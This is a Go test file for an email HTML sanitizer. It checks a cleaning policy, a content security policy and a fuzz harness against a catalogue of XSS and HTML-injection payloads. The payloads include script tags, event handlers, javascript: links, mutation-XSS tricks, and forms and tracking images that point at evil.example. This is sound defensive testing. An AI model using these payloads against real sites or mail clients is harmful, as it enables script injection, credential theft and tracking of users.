package console

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attacks are pieces of HTML that have run, loaded, sent, hidden or led astray somewhere
// (bad-input 111, 112).
func attacks() map[string]string {
	return map[string]string{
		"script":               `<script>alert(1)</script>`,
		"script in parts":      `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		"upper case":           `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		"event handler":        `<img src=x onerror=alert(1)>`,
		"handler, no blank":    `<svg/onload=alert(1)>`,
		"handler on text":      `<p onmouseover="alert(1)">a</p><b onclick=alert(1)>b</b>`,
		"javascript link":      `<a href="javascript:alert(1)">a</a>`,
		"javascript, broken":   "<a href=\"java\tscript:alert(1)\">a</a><a href=\" \x01javascript:alert(1)\">b</a>",
		"javascript, encoded":  `<a href="&#106;&#97;vascript&colon;alert(1)">a</a>`,
		"data link":            `<a href="data:text/html,<script>alert(1)</script>">a</a>`,
		"vbscript":             `<a href="vbscript:msgbox(1)">a</a>`,
		"password in link":     `<a href="https://bank.example@evil.example/">bank</a>`,
		"meta refresh":         `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
		"base":                 `<base href="http://evil.example/"><a href="x">a</a>`,
		"form":                 `<form action="http://evil.example/"><input name=password><button formaction=http://evil.example/>Send</button></form>`,
		"frame":                `<iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		"object and embed":     `<object data="http://evil.example/"></object><embed src="http://evil.example/">`,
		"remote image":         `<img src="http://evil.example/pixel.gif"><img srcset="http://evil.example/1.png 1x"><picture><source srcset="http://evil.example/2.png"></picture>`,
		"background":           `<table background="http://evil.example/x.gif"><tr><td background="//evil.example/x.gif">a</td></tr></table><body background=http://evil.example/>`,
		"css url":              `<div style="background:url(http://evil.example/x)">a</div><p style="font-weight:bold;background-image:url('http://evil.example/')">b</p>`,
		"css, escaped":         `<div style="background:\75 rl(http://evil.example/x)">a</div>`,
		"css expression":       `<div style="width:expression(alert(1))">a</div><div style="text-align:left;behavior:url(#x)">b</div>`,
		"style sheet":          `<style>@import "http://evil.example/x.css";p{color:red}</style><link rel=stylesheet href=http://evil.example/x.css>`,
		"hidden text":          `<p style="display:none">a</p><p style="visibility:hidden">b</p><p style="font-size:0">c</p><p style="color:#fff">d</p><p style="position:fixed;top:0">e</p><p hidden>f</p>`,
		"mutation, math":       `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		"mutation, svg":        `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		"mutation, noscript":   `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		"mutation, template":   `<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>`,
		"mutation, form":       `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		"mutation, textarea":   `<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>`,
		"mutation, title":      `<title><a title="</title><img src=x onerror=alert(1)>">`,
		"comment":              `<!--><img src=x onerror=alert(1)>--><!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
		"cdata":                `<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>`,
		"processing":           `<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE x [<!ENTITY a "b">]>`,
		"attribute breakout":   `<p dir='"><img src=x onerror=alert(1)>'>a</p><a href='https://evil.example/"onmouseover="alert(1)'>b</a>`,
		"unclosed":             `<div><b><a href="https://firma.example/`,
		"plaintext":            `<plaintext><script>alert(1)</script>`,
		"audio and video":      `<video src=http://evil.example/ onloadstart=alert(1)></video><audio src=http://evil.example/></audio>`,
		"name and id":          `<a id="location" name="body">a</a><img name=getElementById>`,
		"ping and target":      `<a href="https://firma.example/" ping="http://evil.example/" target="_top" download>a</a>`,
		"utf-7":                `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		"null bytes":           "<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
		"deeply nested":        strings.Repeat("<div><blockquote>", 5000) + "<script>alert(1)</script>",
		"template of a server": `{{7*7}} ${7*7} <%= 7*7 %>`,
	}
}

// Nothing of an attack survives: what comes out, read as a browser reads it, has only
// the elements and attributes that are allowed.
func TestMailHTMLIsHarmless(t *testing.T) {
	policy := newMailPolicy()
	for name, attack := range attacks() {
		t.Run(name, func(t *testing.T) {
			clean := policy.clean("<p>før</p>" + attack + "<p>efter</p>")
			for _, again := range []string{clean, policy.clean(clean)} { // cleaned twice it is no other
				if fault := harm(t, mailDocument(again)); fault != "" {
					t.Errorf("%s in %.300s", fault, again)
				}
			}
			if !strings.Contains(clean, "før") {
				t.Errorf("the text before it is gone: %.300s", clean)
			}
		})
	}
}

// What mails are made of stays: words, lists, tables, and where links lead.
func TestMailHTMLKeepsItsWords(t *testing.T) {
	for mail, want := range map[string]string{
		`<div dir="ltr"><p align="center">Hej <b>du</b></p></div>`:                      `<div dir="ltr"><p align="center">Hej <b>du</b></p></div>`,
		`<table width=600 bgcolor=red><tr><td colspan="2">1</td></tr></table>`:          `<table><tr><td colspan="2">1</td></tr></table>`,
		`<a href="https://firma.example/x?y=1&z=2">Se her</a>`:                          `<a href="https://firma.example/x?y=1&amp;z=2">Se her</a>`,
		`<p style="text-align:right;color:red">x</p>`:                                   `<p style="text-align: right">x</p>`,
		`<blockquote type="cite">citat<br><ul><li>et</li><li>to</li></ul></blockquote>`: `<blockquote>citat<br><ul><li>et</li><li>to</li></ul></blockquote>`,
	} {
		if got := newMailPolicy().clean(mail); got != want {
			t.Errorf("%s becomes\n%s, want\n%s", mail, got, want)
		}
	}
}

// The page in the frame may do nothing, and shows its styles by their hash.
func TestMailPolicy(t *testing.T) {
	csp := mailCSP()
	for _, want := range []string{"sandbox;", "default-src 'none'", "frame-ancestors 'self'", "form-action 'none'", "base-uri 'none'", "style-src-elem 'sha256-"} {
		if !strings.Contains(csp, want) {
			t.Errorf("%s is missing in %s", want, csp)
		}
	}
	if strings.Contains(csp, "allow-") || strings.Contains(csp, "script") {
		t.Errorf("the frame is let do something: %s", csp)
	}
}

func FuzzMailHTML(f *testing.F) {
	for _, attack := range attacks() {
		f.Add(attack)
	}
	policy := newMailPolicy()
	f.Fuzz(func(t *testing.T, mail string) {
		if fault := harm(t, mailDocument(policy.clean(mail))); fault != "" {
			t.Errorf("%s in what becomes of %q", fault, mail)
		}
	})
}

// harm names the first thing in a document that the policy should have taken out; ""
// for none. A document that is nested too deep to be read has only what its tags say.
func harm(t *testing.T, document string) string {
	t.Helper()
	ours := strings.Count(document, "<style>")
	if ours != 1 {
		return "a style sheet"
	}
	doc, err := html.Parse(strings.NewReader(document))
	if err != nil {
		return harmfulTag(document)
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.CommentNode:
			return "a comment"
		case html.ElementNode:
			if fault := harmfulElement(n.Data, n.Namespace, n.Attr); fault != "" {
				return fault
			}
		}
	}
	return ""
}

func harmfulTag(document string) string {
	z := html.NewTokenizer(strings.NewReader(document))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if fault := harmfulElement(tok.Data, "", tok.Attr); fault != "" {
				return fault
			}
		}
	}
}

const allowedElements = " html head meta title style body p div span br hr h1 h2 h3 h4 h5 h6 blockquote pre code tt kbd samp b strong i em u s del ins sub sup small big center font ul ol li dl dt dd address table caption colgroup thead tbody tfoot tr th td a "

func harmfulElement(name, space string, attrs []html.Attribute) string {
	if space != "" || !strings.Contains(allowedElements, " "+name+" ") {
		return "<" + name + ">"
	}
	for _, a := range attrs {
		switch {
		case name == "meta" && a.Key == "charset", a.Key == "dir", a.Key == "colspan", a.Key == "rowspan", a.Key == "align":
		case a.Key == "style":
			for _, bad := range []string{"url", "(", "\\", "display", "visibility", "position", "color", "size", "behavior", "@", "/*"} {
				if strings.Contains(strings.ToLower(a.Val), bad) {
					return "style " + a.Val
				}
			}
		case name == "a" && a.Key == "href":
			u, err := url.Parse(a.Val)
			if err != nil || u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" || u.User != nil {
				return "a link to " + a.Val
			}
		default:
			return name + " " + a.Key
		}
	}
	return ""
}

// The check of the tests above sees what it is to see.
func TestHarmIsSeen(t *testing.T) {
	for _, name := range []string{
		"script", "event handler", "javascript link", "password in link", "meta refresh", "form", "frame", "remote image",
		"background", "css url", "style sheet", "hidden text", "mutation, svg", "comment", "ping and target", "name and id",
	} {
		if harm(t, mailDocument(attacks()[name])) == "" {
			t.Errorf("%s would pass", name)
		}
	}
}
